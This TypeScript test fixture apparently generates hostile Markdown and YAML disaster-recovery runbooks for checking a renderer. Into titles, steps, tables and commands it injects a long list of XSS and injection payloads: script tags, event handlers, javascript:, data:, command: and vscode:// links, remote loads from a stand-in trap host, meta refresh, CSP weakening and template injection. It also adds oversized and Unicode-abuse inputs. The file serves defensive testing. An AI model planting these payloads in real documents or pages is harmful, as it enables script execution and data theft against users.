/** Documents that try to be more than text wherever a host shows them: each in its own way, all of them runbooks. */

export interface HostileDocument {
  /** What it tries. */
  readonly name: string;
  readonly path: string;
  readonly text: string;
}

/** An address that no test may ever see asked for. */
export const TRAP = 'https://trap.example.org';

const SCRIPT = `<script>window.hacked=1;fetch('${TRAP}/s')</script>`;

/** Pieces of text that stand in every place where a document may have words of its own. */
const PIECES: Readonly<Record<string, string>> = {
  'a script': SCRIPT,
  'a script in capitals': '<SCRIPT>window.hacked=1</SCRIPT>',
  'a script that is never closed': '<script>window.hacked=1',
  'a script from elsewhere': `<script src="${TRAP}/x.js"></script>`,
  'a module': '<script type="module">window.hacked=1</script>',
  'an image with a handler': '<img src=x onerror="window.hacked=1">',
  'an image from elsewhere': `<img src="${TRAP}/pixel.gif">`,
  'an image of Markdown': `![pixel](${TRAP}/pixel.png)`,
  'an image by reference': `![pixel][p]\n\n[p]: ${TRAP}/p.png`,
  'a link to a script': '[click](javascript:window.hacked=1)',
  'a link to a script in capitals': '[click](JaVaScRiPt:window.hacked=1)',
  'a link to a command': '[click](command:workbench.action.terminal.new)',
  'a link to the editor': '[click](vscode://file/etc/passwd)',
  'a link to data': '[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=)',
  'a link with a handler': '[click](https://example.org" onmouseover="window.hacked=1)',
  'an anchor with a handler': '<a href="#" onclick="window.hacked=1">x</a>',
  'a handler at once': '<body onload="window.hacked=1"><input autofocus onfocus="window.hacked=1">',
  'a drawing with a script': '<svg onload="window.hacked=1"><script>window.hacked=1</script></svg>',
  'a drawing from elsewhere': `<svg><image href="${TRAP}/i.svg"/><use href="${TRAP}/u.svg#a"/></svg>`,
  'mathematics with a link':
    '<math><mtext><a xlink:href="javascript:window.hacked=1">x</a></mtext></math>',
  'a style sheet': `<style>@import url(${TRAP}/x.css); body{display:none}</style>`,
  'a style in a tag': `<div style="position:fixed;inset:0;background:url(${TRAP}/bg.png)">x</div>`,
  'a link to a style sheet': `<link rel="stylesheet" href="${TRAP}/x.css">`,
  'a base': `<base href="${TRAP}/">`,
  'a refresh': `<meta http-equiv="refresh" content="0;url=${TRAP}/r">`,
  'a weaker policy': `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
  'a frame': `<iframe src="${TRAP}/f" srcdoc="<script>parent.hacked=1</script>"></iframe>`,
  'an object': `<object data="${TRAP}/o"></object><embed src="${TRAP}/e">`,
  'a form': `<form action="${TRAP}/f"><button>go</button></form>`,
  'a film': `<video src="${TRAP}/v" autoplay onplay="window.hacked=1"></video>`,
  'a template': '${window.hacked=1} {{constructor.constructor("window.hacked=1")()}} <%= 1 %>',
  'the end of everything': `</code></pre></p></li></ol></details></main></body></html>${SCRIPT}`,
  'the end of an attribute': `"><img src=x onerror=window.hacked=1> ' onfocus='window.hacked=1`,
  'a comment that ends early': `<!-- --!>${SCRIPT}-->`,
  'character references': '&lt;script&gt;window.hacked=1&lt;/script&gt; &#60;script&#62;',
  'text turned around': 'abc \u202e txt.cod \u2066 x \u2069 \u200b\u00ad',
  'controls and halves': 'a\u0007b\u001b[31mc\ud800d\uffff\u0085',
  'a prototype': '__proto__ constructor toString hasOwnProperty',
  'a word without an end': 'x'.repeat(30_000),
  'a pile of accents': `z${'\u0301\u0323'.repeat(3_000)}`,
};

/** Each piece in a title, a heading, a task, a step with all that belongs to it, a row of a table, and in YAML. */
export const HOSTILE_DOCUMENTS: readonly HostileDocument[] = [
  ...Object.entries(PIECES).map(([name, piece]) => ({
    name,
    path: 'hostile.md',
    text: markdown(piece),
  })),
  ...['a script', 'an image with a handler', 'the end of everything', 'a link to a command'].map(
    (name) => ({
      name: `${name}, in YAML`,
      path: 'hostile.runbook.yaml',
      text: yaml(PIECES[name] ?? ''),
    }),
  ),
  { name: 'a giant table', path: 'hostile.md', text: giantTable(4_000) },
  { name: 'a table of a thousand columns', path: 'hostile.md', text: wideTable(1_000) },
  {
    name: 'ten thousand tasks',
    path: 'hostile.md',
    text: `# Restore\n\n${'- [ ] x\n'.repeat(10_000)}`,
  },
  { name: 'steps nested twenty deep', path: 'hostile.md', text: nested(20) },
];

function markdown(piece: string): string {
  const line = piece.replace(/\s*\n\s*/g, ' ');
  return [
    '---',
    'kind: restore-procedure',
    `owner: ${JSON.stringify(line)}`,
    '---',
    '',
    `# Restore the shop ${line}`,
    '',
    `## Before ${line}`,
    '',
    `- [ ] ${line} (dba, 5 min)`,
    '',
    `## Restore steps ${line}`,
    '',
    `1. Load the dump ${line} (dba ${line.slice(0, 20).replace(/[()]/g, '')}, 10 min)`,
    `   Expected: ${line}`,
    `   Undo: ${line}`,
    '',
    '   ```sh',
    `   psql -c "${line}"`,
    '   ```',
    '',
    `| # | Step | Owner |`,
    '| --- | --- | --- |',
    `| 1 | ${line.replaceAll('|', '')} | dba |`,
    '',
    piece,
    '',
  ].join('\n');
}

function yaml(piece: string): string {
  const text = JSON.stringify(piece);
  return [
    'apiVersion: dr-runbook/v1',
    'kind: restore-procedure',
    `metadata: {id: shop, title: ${text}, owner: ${text}, version: "1", last_reviewed: 2026-11-16}`,
    'spec:',
    '  steps:',
    `    - id: ${text}`,
    `      action: ${text}`,
    `      owner: ${text}`,
    `      command: ${text}`,
    `      undo: ${text}`,
    `      verify: {command: ${text}, expect: ${text}}`,
    '      duration: PT10M',
    '',
  ].join('\n');
}

function giantTable(rows: number): string {
  const head =
    '# Restore the shop\n\n## Restore steps\n\n| # | Step | Owner |\n| --- | --- | --- |\n';
  const body = Array.from({ length: rows }, (_, at) => `| ${(at % 999) + 1} | ${SCRIPT} | dba |\n`);
  return head + body.join('');
}

function wideTable(columns: number): string {
  const cells = (text: string) =>
    `| ${Array.from({ length: columns }, () => text).join(' | ')} |\n`;
  return `# Restore the shop\n\n- [ ] look\n\n${cells('Step')}${cells('---')}${cells('<b>x</b>')}`;
}

function nested(depth: number): string {
  const steps = Array.from(
    { length: depth },
    (_, at) => `${'   '.repeat(at)}1. ${SCRIPT} step ${at}\n`,
  );
  return `# Restore the shop\n\n## Restore steps\n\n${steps.join('')}`;
}
